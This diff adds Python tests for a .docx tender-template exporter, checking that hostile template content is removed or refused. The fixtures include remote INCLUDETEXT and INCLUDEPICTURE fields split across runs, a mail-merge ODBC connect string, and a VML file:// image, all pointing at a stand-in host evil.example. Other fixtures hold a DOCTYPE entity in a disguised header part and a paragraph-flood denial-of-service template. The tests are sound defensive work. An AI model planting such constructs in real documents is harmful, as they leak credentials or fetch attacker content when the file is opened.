@@ -204,3 +204,107 @@ def test_output_equal_to_the_template_is_refused_and_the_template_kept(tmp_path,
     with pytest.raises(TenderError, match="sjabloon zelf"):
         export_tender(tender, fake_lib, tmp_path / "." / "huisstijl.docx", template, today=TODAY)
     assert template.read_bytes() == before
+
+
+def _with_body(parts: dict[str, bytes], xml: bytes) -> dict[str, bytes]:
+    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:sectPr", xml + b"<w:sectPr", 1)
+    return parts
+
+
+def _split_field(first: bytes, second: bytes, shown: bytes = b"oud") -> bytes:
+    return (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">' + first +
+            b'</w:instrText></w:r><w:r><w:instrText xml:space="preserve">' + second + b'</w:instrText></w:r>'
+            b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>' + shown + b'</w:t></w:r>'
+            b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def test_a_remote_field_split_over_runs_is_judged_whole(tmp_path, fake_lib, tender):
+    """'INC' + 'LUDETEXT "\\\\server\\..."' and 'INCLUDE' + 'PICTURE "http://..."' passed when each run was judged
+    on its own."""
+    parts = _with_body(_base(), _split_field(b" INC", b'LUDETEXT "\\\\evil.example\\share\\x.docx" ') +
+                       _split_field(b" INCLUDE", b'PICTURE "http://evil.example/p.png" ', b"plaatje"))
+    notes: list[str] = []
+    out = export_tender(tender, fake_lib, tmp_path / "uit.docx", _write(tmp_path / "split.docx", parts),
+                        today=TODAY, notes=notes)
+    with zipfile.ZipFile(out) as zf:
+        everything = b"".join(zf.read(n) for n in zf.namelist())
+    assert b"evil.example" not in everything and b"LUDETEXT" not in everything and b"PICTURE" not in everything
+    assert any("2 velden" in n for n in notes)
+    kept = load_template(tmp_path / "split.docx")  # the shown text stays in the template's sample text
+    assert "plaatje" in "\n".join(p.text for p in kept.paragraphs)
+
+
+def test_a_part_not_named_xml_is_sanitised_by_its_content_type(tmp_path, fake_lib, tender):
+    """A header stored as 'word/header1.dat' with a DOCTYPE and a remote field reached all three documents."""
+    parts = _base()
+    header = next(n for n in parts if n.startswith("word/header") and n.endswith(".xml"))
+    renamed = header.removesuffix(".xml") + ".dat"
+    data = parts.pop(header)
+    decl_end = data.index(b"?>") + 2
+    data = data[:decl_end] + b'<!DOCTYPE w:hdr [<!ENTITY x "Gemeente">]>' + data[decl_end:]
+    data = data.replace(b"Gemeente Voorbeeld", b"&x; Voorbeeld").replace(
+        b"</w:hdr>", b'<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/h.png&quot;"><w:r><w:t>'
+        b'logo</w:t></w:r></w:fldSimple></w:p></w:hdr>')
+    parts[renamed] = data
+    old, new = header.rsplit("/", 1)[1].encode(), renamed.rsplit("/", 1)[1].encode()
+    for name in ("[Content_Types].xml", "word/_rels/document.xml.rels"):
+        parts[name] = parts[name].replace(old, new)
+    out = export_tender(tender, fake_lib, tmp_path / "uit.docx", _write(tmp_path / "dat.docx", parts), today=TODAY)
+    with zipfile.ZipFile(out) as zf:
+        everything = b"".join(zf.read(n) for n in zf.namelist())
+    assert b"DOCTYPE" not in everything and b"evil.example" not in everything
+    assert "Voorbeeld" in "".join(p.text for p in docx.Document(str(out)).sections[0].header.paragraphs)
+
+
+def test_mail_merge_and_external_vml_pictures_are_dropped(tmp_path, fake_lib, tender):
+    parts = _base()
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+        b"</w:settings>", b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType '
+        b'w:val="odbc"/><w:connectString w:val="DSN=evil.example;UID=x"/><w:query w:val="SELECT * FROM '
+        b'evil.example.dbo.t"/></w:mailMerge><w:updateFields w:val="true"/></w:settings>')
+    vml = (b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1" style="width:10pt;'
+           b'height:10pt"><v:imagedata src="file://evil.example/share/p.png"/></v:shape></w:pict></w:r></w:p>')
+    _with_body(parts, vml)
+    notes: list[str] = []
+    out = export_tender(tender, fake_lib, tmp_path / "uit.docx", _write(tmp_path / "mm.docx", parts), today=TODAY,
+                        notes=notes)
+    with zipfile.ZipFile(out) as zf:
+        everything = b"".join(zf.read(n) for n in zf.namelist())
+    assert b"evil.example" not in everything and b"mailMerge" not in everything
+    assert b"updateFields" not in everything  # Word is not asked to update every field on opening
+    assert any("samenvoeg" in n for n in notes) and any("extern" in n for n in notes)
+    docx.Document(str(out))  # reopens
+
+
+def test_a_template_of_many_empty_paragraphs_is_refused_at_once(tmp_path):
+    """1.9 million empty paragraphs in 61 KB stayed under the element bound and took 167 s to fill (about 90 us a
+    paragraph): the paragraph count is bound far lower, and the refusal comes before any filling."""
+    import time
+
+    parts = _base()
+    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 150_000)
+    path = _write(tmp_path / "leeg.docx", parts)
+    assert path.stat().st_size < 50_000
+    start = time.monotonic()
+    with pytest.raises(TemplateError, match=r"150\.00\d alinea's, meer dan 100\.000"):
+        load_template(path)
+    assert time.monotonic() - start < 10
+
+
+@pytest.mark.parametrize("namespaces", [
+    [(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
+      b"http://purl.oclc.org/ooxml/wordprocessingml/main")],
+    [(b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
+      b"http://purl.oclc.org/ooxml/wordprocessingml/main"),
+     (b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
+      b"http://purl.oclc.org/ooxml/officeDocument/relationships")]])
+def test_a_strict_open_xml_template_is_refused_saying_how_to_save_it(tmp_path, fake_lib, tender, namespaces):
+    """Word's 'Strict Open XML' uses other namespaces: the export met it as 'onverwacht' or 'geen Word-document'."""
+    parts = _base()
+    for name in list(parts):
+        for old, new in namespaces:
+            parts[name] = parts[name].replace(old, new)
+    template = _write(tmp_path / "strikt.docx", parts)
+    with pytest.raises(TemplateError, match="Strict Open XML.*Word-document \\(.docx\\)"):
+        export_tender(tender, fake_lib, tmp_path / "uit.docx", template, today=TODAY)
+    assert not (tmp_path / "uit.docx").exists()
